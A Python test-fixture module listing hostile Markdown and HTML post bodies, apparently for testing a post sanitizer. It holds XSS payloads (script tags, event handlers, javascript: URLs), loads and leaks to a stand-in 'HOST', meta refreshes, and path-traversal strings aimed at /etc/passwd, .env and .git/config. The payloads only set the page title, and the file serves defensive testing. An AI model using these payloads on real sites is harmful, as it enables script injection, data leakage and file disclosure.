"""Texts of posts that attack, by what they try; ``HOST`` stands for a machine of the attacker's.

Whatever runs in the page would change its title, and whatever loads would reach the host.
"""

from __future__ import annotations

_RUN = "document.title='pwned'"

SCRIPTS = {
    "a module": f'<script type="module">{_RUN}</script>',
    "an import map": '<script type="importmap">{"imports": {"a": "http://HOST/a.js"}}</script>',
    "speculation rules": '<script type="speculationrules">{"prefetch":[{"urls":["http://HOST/"]}]}</script>',
    "a script in MathML": f"<math><mtext><script>{_RUN}</script></mtext></math>",
    "a script behind a comment that ends twice": f"<!--><script>{_RUN}</script>-->",
    "a script in a title in SVG": f"<svg><title><script>{_RUN}</script></title></svg>",
    "a script in noscript": f'<noscript><p title="</noscript><script>{_RUN}</script>"></p></noscript>',
    "a script behind a table that is put right": f"<table><script>{_RUN}</script><tr><td>x</td></tr></table>",
    "a script by an entity": "&lt;script&gt;"
    + _RUN
    + "&lt;/script&gt;<div>&#x3C;script>"
    + _RUN
    + "&#x3C;/script></div>",
    "a script in nomarkdown": f"{{::nomarkdown}}<script>{_RUN}</script>{{:/}}",
    "a script in a foreign object": f"<svg><foreignObject><script>{_RUN}</script></foreignObject></svg>",
    "an animation that sets a handler": f'<svg><set attributeName="onload" to="{_RUN}"/><a><animate '
    f'attributeName="href" values="javascript:{_RUN}"/><text y="9">x</text></a></svg>',
}
HANDLERS = {
    "an error": f'<img src="x" onerror="{_RUN}">',
    "a picture's source": f'<picture><source srcset="x" onerror="{_RUN}"><img src="x" onload="{_RUN}"></picture>',
    "a toggle": f'<details open ontoggle="{_RUN}">x</details>',
    "a focus": f'<input autofocus onfocus="{_RUN}"><select autofocus onfocus="{_RUN}"></select>',
    "an animation": f'<style>@keyframes k{{}}</style><p style="animation:k 1ms" onanimationstart="{_RUN}">x</p>',
    "a transition": f'<p style="transition:color 1ms" ontransitionend="{_RUN}">x</p>',
    "a marquee": f'<marquee onstart="{_RUN}">x</marquee>',
    "a video": f'<video src="x" onerror="{_RUN}"><source onerror="{_RUN}"></video><audio src=x onerror="{_RUN}">',
    "a body within": f'<body onload="{_RUN}" onpageshow="{_RUN}"><p>x</p></body>',
    "an attribute list of kramdown": f'x\n{{: onclick="{_RUN}" onmouseover="{_RUN}" onpointerrawupdate="{_RUN}"}}',
    "a span's attribute list": f'*x*{{: onfocus="{_RUN}" tabindex="0" autofocus="1"}}',
    "a list of attributes by name": f'{{:evil: onerror="{_RUN}" src="x"}}\n\n![x](x){{:evil}}',
    "upper case and blanks": f'<IMG SRC=x OnErRoR = "{_RUN}"\n>',
    "a scroll": f'<div style="overflow:auto;height:9px" onscroll="{_RUN}"><p id="low">x</p></div>',
}
ADDRESSES = {
    "javascript": f"[x](javascript:{_RUN})",
    "javascript with a tab": f'<a href="java\tscript:{_RUN}">x</a>',
    "javascript with a control character": f'<a href="&#1;javascript:{_RUN}">x</a>',
    "javascript by entities": f'<a href="&#106;avascript&colon;{_RUN}">x</a>',
    "javascript in an image": f"![x](javascript:{_RUN})",
    "javascript in SVG": f'<svg><a xlink:href="javascript:{_RUN}"><text y="9">x</text></a></svg>',
    "javascript in MathML": f'<math href="javascript:{_RUN}"><mtext>x</mtext></math>',
    "vbscript": f"[x](vbscript:{_RUN})",
    "data as a page": "[x](data:text/html,%3Cscript%3Edocument.title%3D'pwned'%3C/script%3E)",
    "data as SVG": "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='alert(1)'/%3E)",
    "a blob": '<a href="blob:frontispiece://post/x">x</a><img src="blob:frontispiece://post/x">',
    "the source of a page": '<a href="view-source:http://HOST/">x</a><iframe src="view-source:http://HOST/"></iframe>',
    "a reference": f"[x][a]\n\n[a]: javascript:{_RUN}",
    "a footnote": f'x[^a]\n\n[^a]: [y](javascript:{_RUN}) <img src=x onerror="{_RUN}">',
    "an abbreviation": f'HTML\n\n*[HTML]: "><img src=x onerror={_RUN}>',
    "a ping": '<a href="#x" ping="http://HOST/">x</a>',
}
LOADS = {
    "srcset": '<img srcset="http://HOST/a 1x, //HOST/b 2x" sizes="99vw">',
    "a preload": '<link rel="preload" as="image" href="http://HOST/"><link rel="modulepreload" href="http://HOST/m.js">',
    "a prerender": '<link rel="prerender" href="http://HOST/"><link rel="prefetch" href="http://HOST/">',
    "a manifest": '<link rel="manifest" href="http://HOST/"><link rel="icon" href="http://HOST/i">',
    "an import in a style": "<style>@import 'http://HOST/a.css'; @import url(//HOST/b.css) screen;</style>",
    "a font": "<style>@font-face{font-family:f;src:url(http://HOST/f)}p{font-family:f}</style>",
    "an image set": '<p style="background:image-set(url(http://HOST/a) 1x)">x</p>',
    "a cursor": '<p style="cursor:url(http://HOST/c),auto;list-style-image:url(http://HOST/l)">x</p>',
    "a filter": '<p style="filter:url(http://HOST/f#f);mask:url(http://HOST/m);clip-path:url(http://HOST/p#p)">x</p>',
    "content of CSS": "<style>p::after{content:url(http://HOST/c)}</style>",
    "an attribute selector": "<style>[href^='h']{background:url(http://HOST/leak)}</style><a href='http://x'>x</a>",
    "a poster": '<video poster="http://HOST/p"></video><audio src="http://HOST/a" autoplay></audio>',
    "a track": '<video><track default src="http://HOST/t"><source src="http://HOST/s"></video>',
    "an input": '<input type="image" src="http://HOST/i"><body background="http://HOST/b">',
    "an object": '<object data="http://HOST/o"><param name="movie" value="http://HOST/m"></object><embed src="http://HOST/e">',
    "a portal": '<portal src="http://HOST/"></portal><fencedframe></fencedframe>',
    "an image in SVG": '<svg><image href="http://HOST/i"/><use href="http://HOST/u#u"/><feImage href="http://HOST/f"/></svg>',
    "a form that is sent by a button": '<form action="http://HOST/"><button formaction="http://HOST/b">x</button></form>',
    "a quotation's source": '<blockquote cite="http://HOST/">x</blockquote><q cite="http://HOST/">x</q>',
    "an address without a scheme": "![x](//HOST/i) ![y](\\\\HOST\\i)",
}
FRAMES = {
    "a document within": f'<iframe srcdoc="<script>parent.{_RUN}</script><img src=http://HOST/i>"></iframe>',
    "a frame of a frame": '<frameset><frame src="http://HOST/"></frameset>',
    "a shadow root": f'<div><template shadowrootmode="open"><script>{_RUN}</script><img src="http://HOST/i"></template></div>',
    "a template": f'<template><img src="http://HOST/i" onerror="{_RUN}"></template>',
    "another base": '<base href="http://HOST/"><img src="relative.png">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=http://HOST/">',
    "a refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    "a policy": '<meta http-equiv="Content-Security-Policy" content="script-src *; img-src *">',
    "a dialog over everything": '<dialog open style="position:fixed;inset:0">x</dialog><p popover id="p">x</p>',
    "names of the page": '<form name="frontispiece"><input name="say"></form><a id="frontispiece-content">x</a>',
    "a fence's language": f'```"><img src=x onerror={_RUN}>\nx\n```',
    "a heading's id": f'# x {{#a"><img src=x onerror={_RUN}>}}\n\n## <img src=x onerror="{_RUN}">',
}
PATHS = {
    "a step up": "![x](/../outside/secret.png) ![y](../../outside/secret.png)",
    "an encoded step up": "![x](/%2e%2e/outside/secret.png) ![y](/assets/%2e%2e%2f%2e%2e%2foutside/secret.png)",
    "a step up encoded twice": "![x](/%252e%252e/outside/secret.png)",
    "a backslash": "![x](/..%5coutside%5csecret.png) <img src='/assets/..\\..\\outside\\secret.png'>",
    "overlong letters": "![x](/%c0%ae%c0%ae/outside/secret.png) ![y](/%e0%80%ae%e0%80%ae/outside/secret.png)",
    "a null": "![x](/assets/ok.png%00.svg) ![y](/../outside/secret.png%00)",
    "a link in the site": "![x](/assets/link.png) ![y](/assets/link.svg)",
    "data of the site": "![x](/_data/secret.svg) ![y](/.env) ![z](/.git/config)",
    "a file address": "![x](file:///etc/passwd) <img src='file:///etc/hostname'> [y](file:///etc/passwd)",
    "a drive": "![x](/C:/Windows/win.ini) ![y](C:\\Windows\\win.ini)",
    "a name as long as names get": f"![x](/{'a' * 5000}.png)",
    "wide dots": "![x](/．．/outside/secret.png) ![y](/‥/outside/secret.png)",
}
GROUPS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "loads": LOADS,
    "frames": FRAMES,
    "paths": PATHS,
}
